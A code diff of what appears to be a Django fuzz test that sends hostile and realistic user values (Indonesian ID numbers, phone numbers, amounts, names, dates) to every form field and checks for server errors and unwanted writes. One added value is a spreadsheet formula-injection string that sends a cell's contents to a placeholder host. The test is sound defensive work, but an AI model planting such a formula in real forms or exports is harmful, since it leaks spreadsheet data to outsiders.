@@ -5,9 +5,11 @@ field of its forms, as five personas (officer, facilitator, programme, DPRD staf
 Nothing may answer a server error, and a refused form (an answer of 200 with a field's
 message, or 4xx) may write no row. The fields come from the page itself: each ``<form>`` of
 its HTML, GET forms as filters, POST forms posted with their own values and one field at a
-time replaced. Hostile values are rotated over the fields and personas (each field of a
-page gets one value per persona, a different one for each) to keep the sweep under a
-minute on SQLite. Text with a NUL byte is refused by PostgreSQL but stored by SQLite, so
+time replaced. Each field is sent a hostile value (``HOSTILE``) and a value real users
+send (``HANDED``: NIK, phone numbers, amounts, names and dates as people type or paste
+them). Both lists are rotated over the fields and personas (each field of a page gets one
+value of each list per persona, a different one for each) to keep the sweep under two
+minutes on SQLite. Text with a NUL byte is refused by PostgreSQL but stored by SQLite, so
 every query of the sweep refuses it as PostgreSQL would. Rows and personas are those of the
 access matrix (``tests/test_access.py``), each persona's requests in a savepoint rolled back
 after them.
@@ -40,6 +42,30 @@ HOSTILE = (
     "99999999999999999999",
     "zzz-unknown",
     "\x1b[31mESC\x07",
+)
+#: Values real users send, as pasted from other systems or typed on a phone
+#: (``../shared/cases/README.md``: forms, money, names, dates): a NIK with spaces or dots,
+#: phone numbers in their three spellings, Indonesian amounts (one refused: "1,5 juta"),
+#: single names, titles, a curly apostrophe, spreadsheet formulas, an Excel serial date, a
+#: typed date and time, and a day that does not exist.
+HANDED = (
+    "3201 0123 4567 8901",
+    "3201.0123.4567.8901",
+    "081234567890",
+    "+6281234567890",
+    "6281234567890",
+    "1.500.000",
+    "617.666.666,66",
+    "1,5 juta",
+    "Rp 1.500.000",
+    "Sumiyati",
+    "Hj. Nurhayati Daeng Ngai, S.Pd., M.Si.",
+    "Ma\u2019ruf Letsoin",
+    '=HYPERLINK("http://example.invalid/?d="&B2,"Lihat")',
+    "@SUM(1+1)",
+    "45521",
+    "17/08/2024 09:00",
+    "31/02/2024",
 )
 #: Page numbers and filters every list is asked for, whether its form shows them or not.
 ALWAYS = {"page": ("-1", "99999999999999999999"), "sort": ("zzz",)}
@@ -181,18 +207,17 @@ def _status(response):
 
 
 def _sweep_get(client, url, page, forms, seed):
-    """GET ``url`` with each filter field of its GET forms set to a hostile value, then all
-    of them at once with the page numbers and sort of ``ALWAYS``; a file (an export, a PDF)
+    """GET ``url`` with each filter field of its GET forms set to a hostile value, then to a
+    handed one, then all of them at once (hostile, then handed) with the page numbers and
+    sort of ``ALWAYS``; a file (an export, a PDF)
     is asked for once, with those of ``ALWAYS``. Returns the failures seen."""
     names = sorted({name for method, _, fields in forms if method == "get" for name in fields})
-    everything = {name: HOSTILE[(seed + n) % len(HOSTILE)] for n, name in enumerate(names)}
     asks = [{name: value[0] for name, value in ALWAYS.items()}]
     if forms_of(page) or page["Content-Type"].startswith("text/html"):
-        asks = [{name: HOSTILE[(seed * 3 + n) % len(HOSTILE)]} for n, name in enumerate(names)]
-        asks += [
-            {**everything, **{name: value[0] for name, value in ALWAYS.items()}},
-            {**everything, **{name: value[-1] for name, value in ALWAYS.items()}},
-        ]
+        asks = [{name: value} for n, name in enumerate(names) for value in _values(seed, n)]
+        for position, extreme in ((0, 0), (1, -1)):
+            everything = {name: _values(seed, n)[position] for n, name in enumerate(names)}
+            asks.append({**everything, **{name: value[extreme] for name, value in ALWAYS.items()}})
     failures = []
     for query in asks:
         response = _ask(client, "get", f"{url}?{urlencode(query)}")
@@ -201,13 +226,19 @@ def _sweep_get(client, url, page, forms, seed):
     return failures
 
 
+def _values(seed, n):
+    """The values sent to the ``n``-th field of a page by the ``seed``-th persona: one of
+    ``HOSTILE`` and one of ``HANDED``, rotated so that the personas send different ones."""
+    return (HOSTILE[(seed * 3 + n) % len(HOSTILE)], HANDED[(seed * 5 + n) % len(HANDED)])
+
+
 #: How many hostile posts each URL got, so that a sweep that found no form shows.
 POSTED = {}
 
 
 def _sweep_post(client, url, forms, seed):
-    """POST each POST form of the page with one field at a time set to a hostile value;
-    a refused post must write no row. Returns the failures."""
+    """POST each POST form of the page with one field at a time set to a hostile value,
+    then to a handed one (``_values``); a refused post must write no row. Returns the failures."""
     failures = []
     for method, action, fields in forms:
         if method != "post":
@@ -217,7 +248,7 @@ def _sweep_post(client, url, forms, seed):
         for n, name in enumerate(sorted(fields)):
             if name in ("csrfmiddlewaretoken", "submission_token"):
                 continue
-            for value in (HOSTILE[(seed * 3 + n) % len(HOSTILE)],):
+            for value in _values(seed, n):
                 data = {**base, name: value}
                 with transaction.atomic(), CaptureQueriesContext(connection) as queries:
                     response = _ask(client, "post", target, data)
